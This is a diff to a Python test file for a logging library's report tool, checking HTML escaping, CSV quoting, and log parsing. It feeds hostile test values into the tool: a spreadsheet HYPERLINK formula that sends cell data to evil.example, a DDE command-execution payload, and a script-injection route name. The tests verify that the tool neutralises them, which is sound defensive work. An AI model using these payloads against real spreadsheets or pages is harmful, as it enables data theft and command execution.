@@ -4,12 +4,18 @@ files are read once, bad lines are counted, hostile names are escaped in the HTM
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
+import io
 import json
+import logging
+import math
 import os
+import random
 import re
 import subprocess
 import sys
+from datetime import datetime
 from pathlib import Path
 
 import httpx
@@ -25,11 +31,18 @@ from sherlock_ai.engine.measurement import Measurement
 from sherlock_ai.integrations.asgi import instrument_app
 from sherlock_ai.leaks import LeakSuspect
 from sherlock_ai.logs.formatting import format_bytes
-from sherlock_ai.logs.lines import memory_line, performance_line, resources_line, safe_name
+from sherlock_ai.logs.json_lines import JsonFormatter
+from sherlock_ai.logs.lines import (
+    log_sink,
+    memory_line,
+    performance_line,
+    resources_line,
+    safe_name,
+)
 from sherlock_ai.logs.schema import locate, parse_message
 from sherlock_ai.report import ReadStats, build_report, read_logs
 from sherlock_ai.report.html import render_html
-from sherlock_ai.report.reader import log_files, parse_size
+from sherlock_ai.report.reader import Record, TextLines, _parse_json, log_files, parse_size
 
 SENT = {"GET /items/{item_id}": 40, "POST /orders": 12, "GET /fail": 5}
 HOSTILE_ROUTE = "/x/<script>alert(1)</script>/{n}"
@@ -176,7 +189,9 @@ def test_html_page_is_self_contained_and_escapes_log_text(tmp_path):
     assert main(["report", str(tmp_path), "--html", str(page_path)]) == 0
     page = page_path.read_text(encoding="utf-8")
     assert not re.search(r"(src|href)\s*=", page, re.I)
-    assert "http://" not in page and "https://" not in page and "<script" not in page
+    assert "http://" not in page and "https://" not in page
+    # One script, the page's own hover (inline, no source to load).
+    assert page.count("<script") == 1 and "<script>" in page
     assert html.escape(HOSTILE_ROUTE.replace("{n}", "")) in page
     assert "&lt;b&gt;evil.py:7" in page and "<b>evil" not in page
     assert page.count("<svg") == 5 and "<polyline" in page
@@ -294,3 +309,96 @@ def test_a_name_with_one_record_is_drawn_in_the_distributions(tmp_path):
         svg = page.split(f"data-chart='{chart}'")[1].split("</svg>")[0]
         once = svg[svg.index("GET /once"):]
         assert "<circle" in once[:once.index("</g>")] and "GET /often" in svg
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, capsys):
+    # Names that the app chose, written by the real writers into a real log file.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False))
+    with sherlock_ai.MemoryTracker(formula, trace_malloc=False):
+        pass
+    for name in ("@SUM(A1:A9)", "-3.5", "+cmd|' /C calc'!A0"):
+        log_sink(Measurement("memory", name, "SUCCESS", 0.01, 20, rss=50 * 2**20,
+                             rss_change=-3584))
+    sherlock_ai.SherlockAI.cleanup()
+    assert formula in (tmp_path / "monitoring.log").read_text(encoding="utf-8")
+    assert main(["report", str(tmp_path), "--format", "csv"]) == 0
+    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
+    assert set(rows) == {"'" + formula, "'@SUM(A1:A9)", "-3.5", "'+cmd|' /C calc'!A0"}
+    # Figures stay numbers, negative ones too.
+    assert float(rows["'@SUM(A1:A9)"]["rss_change_min"]) == -3584.0
+    assert rows["-3.5"]["rss_change_mean"] == "-3584.0"
+
+
+@pytest.mark.parametrize("log_format_type", ["log", "json"])
+def test_a_long_log_is_counted_in_full(tmp_path, log_format_type):
+    # More records than the report folds at a time, with more distinct values than a
+    # distribution keeps exactly: every record still counts, the figures match the lines.
+    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False,
+                                          log_format_type=log_format_type))
+    rng = random.Random(3)
+    durations, changes = [], []
+    for n in range(20_000):
+        duration, change = rng.uniform(0.001, 2.0), rng.randrange(-2**20, 2**20)
+        log_sink(Measurement("memory", f"GET /r{n % 3}", "SUCCESS", duration, 20,
+                             rss=50 * 2**20, rss_change=change))
+        durations.append(duration)
+        changes.append(change)
+    sherlock_ai.SherlockAI.cleanup()
+    report, stats = report_of(tmp_path)
+    assert stats.records == 20_000 and stats.bad_lines == 0
+    names = [report.names[f"GET /r{i}"] for i in range(3)]
+    assert [s.count for s in names] == [s.duration.count for s in names] == [6667, 6667, 6666]
+    assert [s.rss_change.count for s in names] == [6667, 6667, 6666]
+    # Text lines round durations to the ms and sizes to three digits; JSON keeps them.
+    rounded = log_format_type == "log"
+    mine = sorted(round(d, 3 if rounded else 6) for d in durations[0::3])
+    first = names[0].duration
+    # Bucketed past EXACT_VALUES distinct values (text's rounded durations stay exact).
+    assert (first.values is None) is not rounded
+    assert first.high == mine[-1] and first.low == mine[0]
+    assert first.total == pytest.approx(sum(mine))
+    assert first.quantile(0.5) == pytest.approx(mine[math.ceil(len(mine) / 2) - 1], rel=0.011)
+    assert names[1].rss_change.mean == pytest.approx(
+        sum(changes[1::3]) / 6667, rel=0.01 if rounded else 1e-9, abs=2048)
+
+
+_FIELDS = ("kind", "name", "timestamp", "pid", "request_id", "status", "duration", "rss",
+           "rss_change", "traced_peak")
+
+
+@settings(max_examples=150, deadline=None)
+@given(name=_TEXT, error=st.one_of(st.none(), _TEXT), rss=st.integers(0, 2**40),
+       change=st.integers(-2**33, 2**33), traced=st.one_of(st.none(), st.integers(0, 2**30)),
+       duration=st.floats(0, 1e5), pid=st.one_of(st.none(), st.integers(1, 2**22)),
+       when=st.floats(0, 4e9))
+def test_the_fast_path_reads_what_the_general_path_reads(name, error, rss, change, traced,
+                                                         duration, pid, when):
+    # Every line the writers write, read both ways: where the fast path takes a line, its
+    # record is the general path's.
+    name = safe_name(name)
+    m = Measurement("memory", name, "ERROR" if error else "SUCCESS", duration, 20, error=error,
+                    rss=rss, rss_change=change, traced=traced,
+                    traced_peak=None if traced is None else traced + 10)
+    text = TextLines()
+    stamp = format(datetime.fromtimestamp(int(when)), "%Y-%m-%d %H:%M:%S")
+    head = f"{stamp} - {pid} - abc - MonitoringLogger - INFO - " if pid else \
+        f"{stamp} - abc - MonitoringLogger - INFO - "
+    record = logging.LogRecord("MonitoringLogger", 20, "sherlock_ai", 0, "", (), None)
+    record.created, record.process, record.request_id, record.sherlock = when, pid, "abc", m
+    for message in (memory_line(m), performance_line(m)):
+        row = text.fast.text(head + message, None)
+        if row is not None:
+            slow = text.parse(head + message, None)
+            assert [getattr(Record.from_row(row), f) for f in _FIELDS] == \
+                [getattr(slow, f) for f in _FIELDS]
+        record.msg, m.kind = message, "memory" if message.startswith("MEMORY") else "performance"
+        line = JsonFormatter().format(record)
+        row = text.fast.json(line, None)
+        if row is not None:
+            assert [getattr(Record.from_row(row), f) for f in _FIELDS] == \
+                [getattr(_parse_json(line, None), f) for f in _FIELDS]
+    # The common case does take the fast path.
+    if "|" not in name and error is None:
+        m.kind = "memory"
+        assert text.fast.text(head + memory_line(m), None) is not None
